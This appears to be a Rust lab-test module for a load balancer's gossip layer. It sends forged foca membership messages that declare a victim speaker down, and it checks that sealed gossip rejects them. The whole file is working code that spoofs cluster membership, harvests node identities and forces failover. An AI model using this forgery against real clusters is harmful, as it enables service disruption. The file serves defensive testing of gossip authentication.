//! Forged gossip, as an attacker on the LAN would send it to the speakers' gossip port: real
//! foca messages (foca's own codec, the speakers' `Id`), in clear or sealed with a key of the
//! attacker's choosing.
//!
//! The attack: announce a fake member ("mallory", at the sender's address) to every speaker;
//! read the member lists they answer with (a `Feed`: the speakers' real identities); then
//! gossip to every other speaker that `victim`'s speaker is down and that a phantom member is
//! alive. Against unauthenticated gossip this makes the others fail `victim`'s VIPs over;
//! against sealed gossip nothing comes back and everything is dropped.

use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use ferrolb_speaker::membership::seal;
use ferrolb_speaker::membership::{Id, Keyring};
use foca::{Codec, Header, Member, Message, PostcardCodec};

use crate::Error;

/// How long answers (Feeds) are read after the announces.
const LISTEN: Duration = Duration::from_secs(1);

/// What a forgery learnt and sent.
#[derive(Debug, Default)]
pub struct Forged {
    /// Speakers' identities the speakers gave away (empty when none answered).
    pub learnt: Vec<Id>,
    /// Datagrams sent.
    pub sent: usize,
}

/// Runs the forgery from `ns` (a lab host's network namespace) bound to `from` (its address
/// and the gossip port): `speakers` are the gossip addresses, `victim` the node to declare
/// down, `keys` what to seal with (`None`: in clear).
pub fn forge(
    ns: &str,
    from: SocketAddr,
    speakers: Vec<(String, SocketAddr)>,
    victim: &str,
    keys: Option<Keyring>,
) -> Result<Forged, Error> {
    let victim = victim.to_string();
    let run =
        ferrolb_testkit::thread_in(ns, move || attack(from, &speakers, &victim, keys.as_ref()));
    run.join()
        .map_err(|_| Error::msg("the forging thread panicked"))?
        .map_err(|e| Error::msg(format!("entering {ns}: {e}")))?
        .map_err(|e| Error::msg(format!("forging gossip: {e}")))
}

fn attack(
    from: SocketAddr,
    speakers: &[(String, SocketAddr)],
    victim: &str,
    keys: Option<&Keyring>,
) -> Result<Forged, String> {
    let sock = UdpSocket::bind(from).map_err(|e| format!("binding {from}: {e}"))?;
    sock.set_read_timeout(Some(Duration::from_millis(100)))
        .map_err(|e| e.to_string())?;
    let mallory = Id {
        node: "mallory".into(),
        addr: from,
        started: now_ms().saturating_mul(1000),
        renewed: 0,
    };
    let mut forged = Forged::default();
    for (_, addr) in speakers {
        let announce = encode(&mallory, Id::seed(*addr), Message::Announce, &[])?;
        send(&sock, keys, &announce, *addr, &mut forged)?;
    }
    let until = Instant::now() + LISTEN;
    let mut buf = vec![0u8; 65536];
    while Instant::now() < until {
        let Ok((len, _)) = sock.recv_from(&mut buf) else {
            continue;
        };
        forged.learnt.extend(feed(&buf[..len]));
    }
    forged.learnt.sort_by(|a, b| a.node.cmp(&b.node));
    forged.learnt.dedup();
    let learnt = forged.learnt.clone();
    let known = |node: &str, addr: SocketAddr| {
        let found = learnt.iter().find(|id| id.node == node).cloned();
        found.unwrap_or(Id {
            node: node.to_string(),
            addr,
            started: 0,
            renewed: 0,
        })
    };
    let Some((_, victim_addr)) = speakers.iter().find(|(n, _)| n == victim) else {
        return Err(format!("{victim} is not among the speakers"));
    };
    let phantom = Id {
        node: "phantom".into(),
        addr: SocketAddr::new(from.ip(), from.port().wrapping_add(1)),
        started: mallory.started,
        renewed: 0,
    };
    let updates = [
        Member::down(known(victim, *victim_addr)),
        Member::alive(phantom),
    ];
    for (node, addr) in speakers.iter().filter(|(n, _)| n != victim) {
        let gossip = encode(&mallory, known(node, *addr), Message::Gossip, &updates)?;
        send(&sock, keys, &gossip, *addr, &mut forged)?;
    }
    Ok(forged)
}

/// One foca datagram: the header, then (for messages that carry them) the updates.
fn encode(
    src: &Id,
    dst: Id,
    message: Message<Id>,
    updates: &[Member<Id>],
) -> Result<Vec<u8>, String> {
    let mut codec = PostcardCodec;
    let mut out = Vec::new();
    let header = Header {
        src: src.clone(),
        src_incarnation: 0,
        dst,
        message,
    };
    codec
        .encode_header(&header, &mut out)
        .map_err(|e| e.to_string())?;
    if !updates.is_empty() {
        let n = u16::try_from(updates.len()).map_err(|e| e.to_string())?;
        out.extend_from_slice(&n.to_be_bytes());
        for m in updates {
            codec
                .encode_member(m, &mut out)
                .map_err(|e| e.to_string())?;
        }
    }
    Ok(out)
}

/// The identities in a `Feed` datagram in clear (none for anything else).
fn feed(mut data: &[u8]) -> Vec<Id> {
    let mut codec = PostcardCodec;
    let Ok(header) = Codec::<Id>::decode_header(&mut codec, &mut data) else {
        return Vec::new();
    };
    if header.message != Message::Feed || data.len() < 2 {
        return Vec::new();
    }
    let n = u16::from_be_bytes([data[0], data[1]]);
    data = &data[2..];
    let mut ids = vec![header.src];
    for _ in 0..n {
        match Codec::<Id>::decode_member(&mut codec, &mut data) {
            Ok(m) => ids.push(m.id().clone()),
            Err(_) => break,
        }
    }
    ids
}

fn send(
    sock: &UdpSocket,
    keys: Option<&Keyring>,
    data: &[u8],
    to: SocketAddr,
    forged: &mut Forged,
) -> Result<(), String> {
    let nonce: [u8; 12] = rand_nonce(forged.sent);
    let wire = match keys {
        Some(k) => seal::seal(k, data, now_ms(), nonce).ok_or("sealing failed")?,
        None => data.to_vec(),
    };
    sock.send_to(&wire, to)
        .map_err(|e| format!("sending to {to}: {e}"))?;
    forged.sent += 1;
    Ok(())
}

/// A distinct nonce per datagram (the attacker's key is its own: uniqueness is all it needs).
fn rand_nonce(n: usize) -> [u8; 12] {
    let mut nonce = [0u8; 12];
    nonce[..8].copy_from_slice(&(n as u64).to_be_bytes());
    nonce[8..].copy_from_slice(&(now_ms() as u32).to_be_bytes());
    nonce
}

fn now_ms() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| u64::try_from(d.as_millis()).unwrap_or(u64::MAX))
}
